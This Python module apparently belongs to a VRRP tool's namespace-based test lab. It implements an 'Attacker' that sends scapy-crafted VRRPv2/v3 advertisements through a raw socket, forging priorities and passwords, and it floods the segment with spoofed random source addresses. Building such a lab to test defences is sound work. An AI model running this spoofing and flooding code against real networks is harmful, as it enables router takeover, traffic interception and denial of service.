"""A hostile host on the lab's segment: VRRP adverts crafted with scapy, sent from a raw socket.

Each packet is built by scapy (IP + VRRP/VRRPv3 layers, checksums by scapy); floods patch the
IPv4 source of one scapy-built template (the kernel refills the IP header checksum of an
IP_HDRINCL socket, and a VRRPv2 checksum does not cover the source) so 100,000 packets
take seconds, not minutes.
"""

from __future__ import annotations

import ipaddress
import random
import socket
import time

from net_helpers import in_netns
from scapy.layers.inet import IP
from scapy.layers.vrrp import VRRP, VRRPv3
from scapy.packet import raw

from vrrptui.lab.netns import VIP, Lab

MCAST = "224.0.0.18"


def v3_advert(src: str, dst: str, *, vrid: int = 51, priority: int, ttl: int = 255, interval_cs: int = 10) -> bytes:
    return raw(IP(src=src, dst=dst, ttl=ttl, proto=112, tos=0xC0)
               / VRRPv3(vrid=vrid, priority=priority, ipcount=1, adv=interval_cs, addrlist=[VIP]))


def v2_advert(src: str, dst: str, *, vrid: int = 51, priority: int, password: bytes, ttl: int = 255) -> bytes:
    auth = password.ljust(8, b"\0")
    return raw(IP(src=src, dst=dst, ttl=ttl, proto=112, tos=0xC0)
               / VRRP(vrid=vrid, priority=priority, ipcount=1, addrlist=[VIP], authtype=1, adv=1,
                      auth1=int.from_bytes(auth[:4], "big"), auth2=int.from_bytes(auth[4:], "big")))


def _checksum_update(checksum: bytes | bytearray, old: bytes | bytearray, new: bytes) -> bytes:
    """RFC 1624: the internet checksum after `old` (16-bit aligned words) became `new`."""
    total = ~int.from_bytes(checksum, "big") & 0xFFFF
    for i in range(0, len(old), 2):
        total += (~int.from_bytes(old[i:i + 2], "big") & 0xFFFF) + int.from_bytes(new[i:i + 2], "big")
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total & 0xFFFF).to_bytes(2, "big")


class Attacker:
    """A raw IPv4 socket inside `node`'s namespace that sends whole IP packets (IP_HDRINCL)."""

    def __init__(self, lab: Lab, node: str) -> None:
        lab.exec(node, ["ip", "route", "add", "224.0.0.0/4", "dev", lab.iface(node)], check=True)
        with in_netns(lab.ns(node)):
            self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.sent = 0

    def send(self, packet: bytes) -> None:
        dst = socket.inet_ntoa(packet[16:20])
        self.sock.sendto(packet, (dst, 0))
        self.sent += 1

    def flood(self, template: bytes, count: int, rate: float, seed: int = 1) -> float:
        """`count` copies of `template` from random IPv4 sources at about `rate` packets/s; returns seconds."""
        rng = random.Random(seed)
        dst = socket.inet_ntoa(template[16:20])
        packet = bytearray(template)
        packet[10:12] = b"\0\0"  # the kernel fills in the header checksum
        chunk = max(1, int(rate / 100))
        start = time.monotonic()
        pseudo = packet[20] >> 4 == 3  # a VRRPv3 checksum covers the source (pseudo-header)
        for i in range(count):
            source = ipaddress.IPv4Address(0x0A000000 | rng.getrandbits(24)).packed  # 10/8
            if pseudo:
                packet[26:28] = _checksum_update(packet[26:28], packet[12:16], source)
            packet[12:16] = source
            try:
                self.sock.sendto(packet, (dst, 0))
            except OSError:  # ENOBUFS under load: the flood is best effort
                continue
            self.sent += 1
            if i % chunk == chunk - 1:
                ahead = start + (i + 1) / rate - time.monotonic()
                if ahead > 0:
                    time.sleep(ahead)
        return time.monotonic() - start

    def close(self) -> None:
        self.sock.close()
